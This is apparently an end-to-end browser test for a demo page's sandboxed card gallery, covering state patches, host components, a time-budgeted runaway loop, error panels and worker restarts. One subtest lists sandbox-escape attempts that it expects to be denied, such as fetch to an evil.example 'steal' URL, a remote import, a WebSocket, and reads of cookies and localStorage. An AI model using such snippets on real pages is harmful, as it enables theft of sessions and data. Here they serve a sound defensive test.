// End-to-end test of the demo page's card gallery (www/gallery.js, www/realms/): cards from two
// principals (Acme and Globex), each in a compartment of its own, drawn by the host shim.
// Clicks through every card in Debian's Chromium and checks what the page shows.
// Run: node --test --test-concurrency=1 tests/e2e/demo-cards.test.mjs (after ./scripts/build-pkg.sh).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { start } from './harness.mjs';

const ARTIFACTS = fileURLToPath(new URL('./artifacts/', import.meta.url));
const REALMS = fileURLToPath(new URL('../../www/realms/', import.meta.url));
const sel = (id) => `[data-testid="${id}"]`;

/** Polls `read()` until `ok(value)`; fails with the last value seen. */
async function until(read, ok, what, timeout = 5_000) {
  const t0 = Date.now();
  let last;
  for (;;) {
    last = await read();
    if (ok(last)) return last;
    if (Date.now() - t0 > timeout) assert.fail(`${what}: still ${JSON.stringify(last)} after ${timeout} ms`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

const textOf = async (locator) => ((await locator.textContent()) ?? '').replace(/\s+/g, ' ').trim();

/** Where a line of a realm file is: [1-based line, 1-based column of `needle` in it]. */
async function locate(file, needle, column = needle) {
  const lines = (await readFile(`${REALMS}${file}`, 'utf8')).split('\n');
  const i = lines.findIndex((l) => l.includes(needle));
  assert.ok(i >= 0, `${needle} not in ${file}`);
  return [i + 1, lines[i].indexOf(column) + 1];
}

async function openGallery(env, width = 1280) {
  const page = await env.page('/');
  await page.setViewportSize({ width, height: 900 });
  try {
    await page.waitForSelector(`${sel('gallery')}[data-state="ready"]`, { timeout: 30_000 });
  } catch (e) {
    const state = await page.getAttribute(sel('gallery'), 'data-state');
    throw new Error(`the gallery never became ready: ${state}; page errors ${page.errors.map(String)}`, { cause: e });
  }
  return page;
}

test('demo page card gallery: two principals, every card clicked through', async (t) => {
  await mkdir(ARTIFACTS, { recursive: true });
  const env = await start();
  t.after(() => env.close());
  const page = await openGallery(env);
  const origin = env.origin;

  const card = (name) => page.locator(sel(`card-${name}`));
  const inCard = (name, css) => card(name).locator(css);
  const patchRow = (id, path) => page.locator(`${sel('patch')}[data-id="${id}"][data-path="${path}"]`).first();
  // The sticky top bar would cover a tile's head in an element screenshot: unpin it meanwhile.
  const shotTile = async (name) => {
    await page.evaluate(() => { document.querySelector('.topbar').style.position = 'static'; });
    await page.locator(sel(`tile-${name}`)).screenshot({ path: `${ARTIFACTS}demo-cards-${name}.png` });
    await page.evaluate(() => { document.querySelector('.topbar').style.position = ''; });
  };
  const count = () => textOf(inCard('counter', sel('count')));

  /** Waits for the newest patch of `id` at `path` to be acknowledged; returns its row. */
  async function acknowledged(id, path) {
    const row = patchRow(id, path);
    await until(() => row.getAttribute('data-state').catch(() => null), (s) => s === 'acknowledged', `patch ${id}.${path}`);
    return {
      seq: Number((await textOf(row.locator(sel('patch-seq')))).slice(1)),
      id: await textOf(row.locator(sel('patch-id'))),
      path: await textOf(row.locator(sel('patch-path'))),
      value: await textOf(row.locator(sel('patch-value'))),
      ack: await textOf(row.locator(sel('patch-ack'))),
    };
  }

  await page.screenshot({ path: `${ARTIFACTS}demo-cards-page.png`, fullPage: true });

  await t.test('loads with no user action: two principals, each card in its own shadow root', async () => {
    assert.equal(await textOf(page.locator(sel('principal-acme-url'))), `${origin}/realms/acme/`);
    assert.equal(await textOf(page.locator(sel('principal-globex-url'))), `${origin}/realms/globex/`);
    assert.match(await textOf(page.locator(sel('principal-acme-stats'))), /^103 cards · 1 compartment · \d+ calls · \d+\.\d MB$/);
    assert.match(await textOf(page.locator(sel('principal-globex-stats'))), /^3 cards · 2 compartments · \d+ calls · \d+\.\d MB$/);
    // The card modules came from the two realms, through the page's own origin.
    for (const path of ['acme/counter.js', 'acme/contact.js', 'acme/directory.js', 'acme/theme.js', 'acme/invoice.js', 'acme/quote.js',
      'globex/release.js', 'globex/escape.js', 'globex/runaway.js', 'globex/theme.js']) {
      assert.ok(env.requests.includes(`${origin}/realms/${path}`), `${path} was not fetched`);
    }
    // Every card view is a shadow root the shim owns; the card's own markup is one level down.
    const mounts = await page.locator('.card-mount').evaluateAll((els) => els.map((e) => ({
      id: e.dataset.testid ?? e.dataset.card,
      loading: e.hasAttribute('data-loading'),
      shadow: e.shadowRoot !== null,
      inner: e.shadowRoot?.querySelector('.content')?.shadowRoot?.querySelector('.card') != null,
    })));
    assert.equal(mounts.length, 7 + 100);
    for (const m of mounts) assert.deepEqual([m.id, m.loading, m.shadow, m.inner], [m.id, false, true, true]);
    // The page's light DOM holds none of the cards' markup.
    assert.equal(await page.evaluate(() => document.querySelectorAll('.counter, .contact, .release, .esc, .rw, .mate').length), 0);
  });

  await t.test('counter: tracked state and actions; the saved count leaves as acknowledged patches', async () => {
    assert.equal(await count(), '0');
    assert.equal(await textOf(inCard('counter', '.recent')), 'no actions yet');
    for (const [button, expected] of [['inc', '1'], ['inc', '2'], ['inc', '3'], ['dec', '2']]) {
      await inCard('counter', sel(button)).click();
      await until(count, (n) => n === expected, `count after ${button}`);
    }
    assert.match(await textOf(inCard('counter', sel('session'))), /^4 actions this session/);
    assert.deepEqual(await inCard('counter', '.recent li').allTextContents(), ['+1', '+1', '+1', '−1']);
    const patch = await acknowledged('counter', 'count');
    assert.deepEqual({ ...patch, seq: undefined }, { seq: undefined, id: 'counter', path: 'count', value: '2', ack: 'acknowledged' });
    await inCard('counter', sel('reset')).click();
    await until(count, (n) => n === '0', 'count after reset');
    assert.equal((await acknowledged('counter', 'count')).value, '0');
    assert.equal(await page.getAttribute(sel('card-counter'), 'data-card-error'), null);
    await shotTile('counter');
  });

  await t.test('edit card: each field write is a patch in the host store, with seq, id, path, value and an ack', async () => {
    const field = (name) => inCard('contact', `[data-field="${name}"] input`);
    const seqs = [];

    await field('name').fill('Grace Hopper');
    let p = await acknowledged('contact', 'name');
    assert.deepEqual([p.id, p.path, p.value, p.ack], ['contact', 'name', "'Grace Hopper'", 'acknowledged']);
    seqs.push(p.seq);
    // The guest re-rendered from its model: the header follows the field.
    await until(() => textOf(inCard('contact', sel('contact-name'))), (s) => s === 'Grace Hopper', 'contact header');

    await field('age').fill('85');
    p = await acknowledged('contact', 'age');
    assert.equal(p.value, '85', 'a NumberField patch carries a number');
    seqs.push(p.seq);

    await field('birthday').fill('1906-12-09');
    p = await acknowledged('contact', 'birthday');
    assert.equal(p.value, "'1906-12-09'");
    seqs.push(p.seq);

    await field('subscribed').uncheck();
    p = await acknowledged('contact', 'subscribed');
    assert.equal(p.value, 'false');
    seqs.push(p.seq);

    // The compound field: its inputs write nested paths.
    const street = inCard('contact', '[data-field="address"] .field').filter({ hasText: 'street' }).locator('input');
    await street.fill('1 Navy Yard');
    p = await acknowledged('contact', 'address.street');
    assert.deepEqual([p.path, p.value], ['address.street', "'1 Navy Yard'"]);
    seqs.push(p.seq);

    for (let i = 1; i < seqs.length; i++) assert.ok(seqs[i] > seqs[i - 1], `patch seqs in order: ${seqs}`);
    // The host's store (a plain object) now holds every write.
    const stored = JSON.parse(await page.locator(sel('store-json')).textContent());
    assert.deepEqual(stored, {
      title: null, description: null, name: 'Grace Hopper', age: 85, subscribed: false, birthday: '1906-12-09',
      address: { street: '1 Navy Yard', city: 'London' },
    });
    // No row is left unacknowledged.
    assert.equal(await page.locator(`${sel('patch')}[data-state="applied"]`).count(), 0);
    assert.equal(await page.getAttribute(sel('card-contact'), 'data-card-error'), null);
    await shotTile('contact');
  });

  await t.test('host components: the trusted Button token renders as the page\'s real button and dispatches', async () => {
    const buttons = inCard('release', 'button.host-button');
    assert.equal(await buttons.count(), 2);
    const info = await buttons.evaluateAll((bs) => bs.map((b) => ({
      button: b instanceof HTMLButtonElement,
      cls: b.className,
      label: b.getRootNode().host.textContent.trim(),
      // Inside a shadow root of the host component's own (no guest markup can make one).
      component: b.getRootNode() instanceof ShadowRoot ? b.getRootNode().host.dataset.hostComponent : null,
      background: getComputedStyle(b).backgroundColor,
    })));
    assert.deepEqual(info, [
      { button: true, cls: 'host-button host-button--primary', label: 'Approve', component: 'Button', background: 'rgb(91, 124, 245)' },
      { button: true, cls: 'host-button host-button--secondary', label: 'Request changes', component: 'Button', background: 'rgb(16, 20, 29)' },
    ]);
    const badge = inCard('release', '.host-badge');
    assert.equal(await badge.getAttribute('class'), 'host-badge host-badge--neutral');
    assert.equal(await textOf(inCard('release', '[data-host-component="Badge"]')), 'in review');

    await buttons.first().click();
    await until(() => textOf(inCard('release', sel('approvals'))), (s) => s === '1 of 2 approvals', 'approvals');
    assert.equal(await textOf(page.locator(sel('host-button-clicks'))), '1 host button click');
    assert.equal((await acknowledged('release', 'approvals')).value, '1');
    await inCard('release', 'button.host-button').first().click();
    await until(() => textOf(inCard('release', sel('approvals'))), (s) => s === '2 of 2 approvals', 'approvals');
    await until(() => textOf(inCard('release', '[data-host-component="Badge"]')), (s) => s === 'approved', 'badge');
    assert.equal(await inCard('release', '.host-badge').getAttribute('class'), 'host-badge host-badge--success');
    const status = await acknowledged('release', 'status');
    assert.deepEqual([status.id, status.value, status.ack], ['release', "'approved'", 'acknowledged']);
    await shotTile('release');
  });

  await t.test('runaway: stopped by its budget with a notice; the page and the other cards never wait', async (st) => {
    const anim = page.locator(sel('runaway-heartbeat'));
    const frames = async () => Number(await anim.getAttribute('data-frames'));
    const topFrames = async () => Number(await page.getAttribute(sel('heartbeat'), 'data-frames'));
    assert.equal(await page.isHidden(sel('runaway-notice')), true, 'the runaway does not run by itself');
    // Tall enough to show the counter and the runaway at once: no scrolling during the run.
    await page.setViewportSize({ width: 1280, height: 1700 });
    await page.evaluate(() => document.getElementById('cards').scrollIntoView({ block: 'start', behavior: 'instant' }));
    const before = { frames: await frames(), top: await topFrames(), x: await anim.getAttribute('data-x'), count: Number(await count()) };
    // Samples the host animation's dot every frame while the notice says "running".
    await page.evaluate(() => {
      const notice = document.querySelector('[data-testid="runaway-notice"]');
      const dot = document.querySelector('[data-testid="runaway-heartbeat"]');
      const seen = (window.__runawaySamples = []);
      const sample = () => {
        if (notice.dataset.phase === 'running') seen.push(dot.dataset.x);
        if (notice.dataset.phase !== 'stopped') requestAnimationFrame(sample);
      };
      requestAnimationFrame(sample);
    });

    await inCard('runaway', sel('run')).click();
    await page.waitForSelector(`${sel('runaway-notice')}[data-phase="running"]`, { timeout: 2_000 });
    // While Globex's card loops, an Acme card answers (another principal, another worker).
    await inCard('counter', sel('inc')).click();
    await until(count, (n) => n === String(before.count + 1), 'the counter during the runaway');
    const phaseAfterCounter = await page.getAttribute(sel('runaway-notice'), 'data-phase');
    await page.waitForSelector(`${sel('runaway-notice')}[data-phase="stopped"]`, { timeout: 5_000 });
    const after = { frames: await frames(), top: await topFrames(), x: await anim.getAttribute('data-x') };
    const xs = await page.evaluate(() => window.__runawaySamples);
    const worst = Number(await anim.getAttribute('data-worst'));
    const took = Number(await page.getAttribute(sel('tile-runaway'), 'data-took'));
    st.diagnostic(`runaway: stopped after ${took} ms; ${after.frames - before.frames} animation frames, ${new Set(xs).size} distinct dot positions, longest frame gap ${worst} ms; phase when the counter answered: ${phaseAfterCounter}`);
    assert.equal(phaseAfterCounter, 'running', 'the counter answered while the runaway was still looping');
    // The host animation kept moving while the guest looped: a frozen page would show one
    // position and one frame gap as long as the whole budget.
    assert.ok(new Set(xs).size >= 5, `the host animation stood still during the loop: ${xs}`);
    assert.notEqual(after.x, before.x);
    assert.ok(after.frames - before.frames >= 10, `only ${after.frames - before.frames} animation frames during the runaway`);
    assert.ok(after.top - before.top >= 10, 'the top bar heartbeat kept beating');
    assert.ok(worst < 250, `longest frame gap ${worst} ms during a ${took} ms runaway`);
    assert.ok(took >= 950 && took < 4_000, `stopped after ${took} ms for a 1000 ms budget`);

    // The notice, the shim's error panel and the host's onCardError log all say what happened.
    assert.match(await textOf(page.locator(sel('runaway-notice-title'))), /^Stopped after \d+ ms · SANDBOX_LIMIT_EXCEEDED$/);
    assert.match(await textOf(page.locator(sel('runaway-notice-text'))), /timeoutMs budget ended the action/);
    assert.equal(await textOf(inCard('runaway', '[data-field="code"]')), 'SANDBOX_LIMIT_EXCEEDED');
    assert.match(await textOf(inCard('runaway', '[data-field="message"]')), /deadline/);
    assert.equal(await page.getAttribute(sel('card-runaway'), 'data-stale'), '', 'the last good render stays, marked stale');
    assert.equal(await page.locator(`${sel('card-error')}[data-id="runaway"][data-code="SANDBOX_LIMIT_EXCEEDED"]`).count(), 1);
    await shotTile('runaway');
    await page.setViewportSize({ width: 1280, height: 900 });

    // Afterwards: the counter (other worker) and the release card (same worker) both still work.
    const n = Number(await count());
    await inCard('counter', sel('inc')).click();
    await until(count, (x) => x === String(n + 1), 'the counter after the runaway');
    await inCard('release', 'button.host-button').nth(1).click();
    await until(() => textOf(inCard('release', '[data-host-component="Badge"]')), (s) => s === 'changes requested', 'release after the runaway');
    assert.equal(await textOf(inCard('release', sel('approvals'))), '0 of 2 approvals');
    // And the runaway card itself comes back.
    await page.click(sel('runaway-reset'));
    await page.waitForSelector(`${sel('runaway-notice')}[hidden]`, { state: 'attached' });
    await until(() => page.getAttribute(sel('card-runaway'), 'data-card-error'), (v) => v === null, 'runaway error cleared');
    assert.equal(await inCard('runaway', sel('run')).isVisible(), true);
  });

  await t.test('escape attempts: every attempt made inside the guest is listed as denied', async () => {
    const rows = inCard('escape', sel('attempt'));
    const list = async () => rows.evaluateAll((lis) => lis.map((li) => ({
      cls: li.className,
      label: li.querySelector('.what').textContent,
      result: li.querySelector('[data-testid="attempt-result"]').textContent,
    })));
    const expected = [
      ["fetch('https://evil.example/steal')", /^denied: ReferenceError: fetch is not defined$/],
      ['document.cookie', /^denied: ReferenceError: document is not defined$/],
      ['window.location.href', /^denied: ReferenceError: window is not defined$/],
      ["import('https://evil.example/x.js')", /^denied: TypeError: .*https:\/\/evil\.example\/x\.js.*SANDBOX_POLICY_DENIED/],
      ["Function('return this')().document", /^denied: TypeError: /],
      ["globalThis.constructor.constructor('return process')()", /^denied: ReferenceError: process is not defined$/],
      ["localStorage.getItem('session')", /^denied: ReferenceError: localStorage is not defined$/],
      ['new XMLHttpRequest()', /^denied: ReferenceError: XMLHttpRequest is not defined$/],
      ["postMessage(secrets, '*')", /^denied: ReferenceError: postMessage is not defined$/],
      ['navigator.sendBeacon(…)', /^denied: ReferenceError: navigator is not defined$/],
      ["new WebSocket('wss://evil.example')", /^denied: ReferenceError: WebSocket is not defined$/],
    ];
    const check = (found) => {
      assert.deepEqual(found.map((r) => r.label), expected.map(([l]) => l));
      found.forEach((r, i) => {
        assert.equal(r.cls, 'denied', r.label);
        assert.match(r.result, expected[i][1], r.label);
      });
    };
    check(await list());
    assert.equal(await textOf(inCard('escape', sel('attempt-summary'))), '11 of 11 denied · run 1');
    // Run again: the guest makes every attempt afresh and reports it.
    await inCard('escape', 'button').click();
    await until(() => textOf(inCard('escape', sel('attempt-summary'))), (s) => s === '11 of 11 denied · run 2', 'second run');
    check(await list());
    assert.equal((await acknowledged('escape', 'runs')).value, '2');
    assert.deepEqual(env.requests.filter((u) => u.includes('evil.example')), []);
    await shotTile('escape');
  });

  await t.test('a hundred embedded cards in one renderMany: one round trip, timed', async (st) => {
    assert.equal(await page.locator(sel('team-card')).count(), 100);
    const names = await page.locator(`${sel('team')} .name`).allTextContents();
    assert.equal(names.length, 100, 'every embedded card rendered its name inside its shadow root');
    assert.equal(names[0], 'Ada Lovelace');
    assert.equal(await textOf(page.locator(sel('batch-count'))), '100');
    assert.equal(await textOf(page.locator(sel('batch-calls'))), '1');
    // The hundred were loaded with one loadCards: the module's import, then one call.
    assert.equal(await page.getAttribute(sel('tile-directory'), 'data-load-calls'), '2');
    assert.match(await textOf(page.locator(sel('load-ms'))), /^\d+(\.\d)? ms$/);
    assert.match(await textOf(page.locator(sel('batch-ms'))), /^\d+(\.\d)? ms$/);
    assert.match(await textOf(page.locator(sel('batch-dom-ms'))), /^\d+(\.\d)? ms$/);
    const first = await page.getAttribute(sel('tile-directory'), 'data-ms');
    await page.click(sel('batch-again'));
    await until(() => page.getAttribute(sel('tile-directory'), 'data-renders'), (n) => n === '2', 'second batch');
    assert.equal(await page.getAttribute(sel('tile-directory'), 'data-calls'), '1');
    assert.equal(await page.locator(sel('team-card')).count(), 100, 'the second batch patched the same views');
    st.diagnostic(`renderMany of 100: ${first} ms, then ${await page.getAttribute(sel('tile-directory'), 'data-ms')} ms`);
    await shotTile('directory');
  });

  await t.test('broken cards: the error panel shows the module URL, line:column, code and guest stack', async () => {
    const field = (name, f) => textOf(inCard(name, `[data-field="${f}"]`));
    const [synLine, synCol] = await locate('acme/invoice.js', 'total = ;', ';');
    assert.equal(await field('invoice', 'filename'), `${origin}/realms/acme/invoice.js`);
    assert.equal(await field('invoice', 'location'), `${synLine}:${synCol}`);
    assert.equal(await field('invoice', 'code'), 'SANDBOX_SYNTAX');
    assert.match(await field('invoice', 'message'), /unexpected token/);

    const [throwLine] = await locate('acme/quote.js', 'quote.author.name');
    assert.equal(await field('quote', 'filename'), `${origin}/realms/acme/quote.js`);
    assert.match(await field('quote', 'location'), new RegExp(`^${throwLine}:\\d+$`));
    assert.equal(await field('quote', 'code'), 'SANDBOX_GUEST_THREW');
    const stack = await textOf(inCard('quote', '[data-field="stack"]'));
    assert.ok(stack.includes(`at byline (${origin}/realms/acme/quote.js:${throwLine}:`), stack);

    // onCardError wrote both to the host's log.
    assert.equal(await page.locator(`${sel('card-error')}[data-id="invoice"][data-code="SANDBOX_SYNTAX"]`).count(), 1);
    assert.equal(await page.locator(`${sel('card-error')}[data-id="quote"][data-code="SANDBOX_GUEST_THREW"]`).count(), 1);
    assert.match(await textOf(page.locator(`${sel('card-error')}[data-id="invoice"]`)), new RegExp(`invoice\\.js:${synLine}:${synCol}`));
    await shotTile('broken');
    await shotTile('errors');
  });

  await t.test('kill the worker: every acme card comes back from the host store in one loadCards, with its saved state', async (st) => {
    const saved = String(Number(await count()) + 1);
    await inCard('counter', sel('inc')).click();
    await until(count, (n) => n === saved, 'count before the kill');
    await until(async () => (await acknowledged('counter', 'count')).value, (v) => v === saved, 'the count saved in the store');
    await page.click(sel('batch-kill'));
    const reloaded = await until(() => page.getAttribute(sel('tile-directory'), 'data-reloaded'), (n) => n !== null, 'reload after the kill', 15_000);
    // The hundred teammates and acme's other cards in the store: counter, contact and quote
    // (the invoice never parsed, so it was never created).
    assert.equal(reloaded, '103');
    assert.match(await textOf(page.locator(sel('batch-note'))), /^Worker requested: 103 cards reloaded from the host's store by loadCards in \d+(\.\d)? ms\.$/);
    await until(count, (n) => n === saved, 'the counter after the reload');
    const names = await until(() => page.locator(`${sel('team')} .name`).allTextContents(), (n) => n.length === 100 && n[0] === 'Ada Lovelace', 'the team after the reload');
    assert.equal(names.length, 100);
    await inCard('counter', sel('inc')).click();
    await until(count, (n) => n === String(Number(saved) + 1), 'the reloaded counter takes clicks');
    st.diagnostic(await textOf(page.locator(sel('batch-note'))));
    await shotTile('directory');
    // The quote's render fails again on the new worker, and is logged again.
    assert.equal(await page.locator(`${sel('card-error')}[data-id="quote"][data-code="SANDBOX_GUEST_THREW"]`).count(), 2);
  });

  await t.test('narrow screens: the gallery stacks into one column', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    await page.evaluate(() => document.getElementById('cards').scrollIntoView({ block: 'start', behavior: 'instant' }));
    const widths = await page.locator('.gallery-grid > .tile, .gallery-grid > .tile-stack').evaluateAll((els) => els.map((e) => e.getBoundingClientRect().width));
    const grid = await page.locator('.gallery-grid').evaluate((e) => e.getBoundingClientRect().width);
    for (const w of widths) assert.ok(Math.abs(w - grid) < 1, `a tile is ${w}px wide in a ${grid}px column`);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.equal(overflow, 0, 'the page scrolls sideways');
    await page.screenshot({ path: `${ARTIFACTS}demo-cards-mobile.png` });
    await page.setViewportSize({ width: 1280, height: 900 });
  });

  await page.evaluate(() => window.scrollTo({ top: 0, behavior: 'instant' }));
  await page.screenshot({ path: `${ARTIFACTS}demo-cards-page-after.png`, fullPage: true });
  assert.deepEqual(page.errors.map(String), [], 'the page logged errors');
  const foreign = env.requests.filter((u) => !u.startsWith(`${origin}/`));
  assert.deepEqual(foreign, [], 'the page requested something outside the test origin');
});

// Input faster than a round trip: an event raised while a dispatch runs names the render it
// was raised on (the runtime keeps the last few renders' actions), and a render answering an
// older keystroke leaves the focused input alone (the shim), so nothing typed is lost.
test('cards take input faster than a round trip', async (t) => {
  const env = await start();
  t.after(() => env.close());
  const page = await openGallery(env);
  await t.test('a double click on + counts two', async () => {
    await page.locator(`${sel('card-counter')} ${sel('inc')}`).dblclick();
    await until(() => textOf(page.locator(`${sel('card-counter')} ${sel('count')}`)), (v) => v === '2', 'the count after a double click');
    assert.equal(await page.getAttribute(sel('card-counter'), 'data-card-error'), null, 'the card shows an error panel');
  });
  await t.test('typing at 5 ms a key keeps every character', async () => {
    const input = page.locator(`${sel('card-contact')} [data-field="name"] input`);
    await input.fill('');
    await page.waitForTimeout(200);
    await input.pressSequentially('Grace Hopper', { delay: 5 });
    // Every keystroke's dispatch has answered once the store holds the whole name.
    await until(() => page.locator(sel('store-json')).textContent(), (v) => (v ?? '').includes('Grace Hopper'), 'the stored name', 15_000);
    await page.waitForTimeout(300);
    assert.equal(await input.inputValue(), 'Grace Hopper');
    assert.equal(await page.getAttribute(sel('card-contact'), 'data-card-error'), null, 'the card shows an error panel');
  });
});
